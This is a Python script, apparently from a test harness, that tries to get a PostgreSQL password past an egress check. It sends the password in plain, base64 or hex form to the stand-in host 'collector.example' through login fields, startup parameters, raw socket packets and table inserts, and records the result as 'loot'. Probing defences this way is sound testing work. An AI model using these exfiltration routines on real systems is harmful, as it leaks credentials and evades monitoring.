import base64
import socket

from postgres import PATIENCE, Session, login, packed
from rows import each, mark, note

user, password, host, port, database = login()
spellings = {"plain": lambda text: text, "base64": lambda text: base64.b64encode(text.encode()).decode(), "hexadecimal": lambda text: text.encode().hex()}


def marked(row, spelling="plain"):
    """Mark and password in one piece, which is let through or not."""
    return f"{mark(row)} {spellings[spelling](password)}"


def other_database(row):
    Session(user, password, "other.example", port, database).query(f"INSERT INTO notes VALUES ('{mark(row)}')")


def collector(row):
    """The mark is told behind the password: to be asked for it is nothing yet."""
    session = Session(user, marked(row), "collector.example", port, database)
    print(session)


def collector_startup(row):
    Session(user, "none", "collector.example", port, database, {"application_name": marked(row)})


def no_protocol(row, spelling):
    with socket.create_connection(("collector.example", port), PATIENCE) as connection:
        connection.sendall(packed(b"Q", marked(row, spelling)))
        connection.recv(1)


def statement(row, spelling):
    Session(*login()).query(f"INSERT INTO notes VALUES ('{marked(row, spelling)}')")


def copy(row):
    Session(*login()).copy("COPY notes FROM STDIN", marked(row).encode() + b"\n")


def startup(row):
    Session(*login(), parameters={"application_name": marked(row)}).query("INSERT INTO notes VALUES (current_setting('application_name'))")


def perform(row, means, *more):
    globals()[means](row, *more)


def use(row):
    Session(*login()).query(f"INSERT INTO notes VALUES ('{mark(row)}')")
    note("loot", mark(row) + "\n")


each(perform, grant=use)
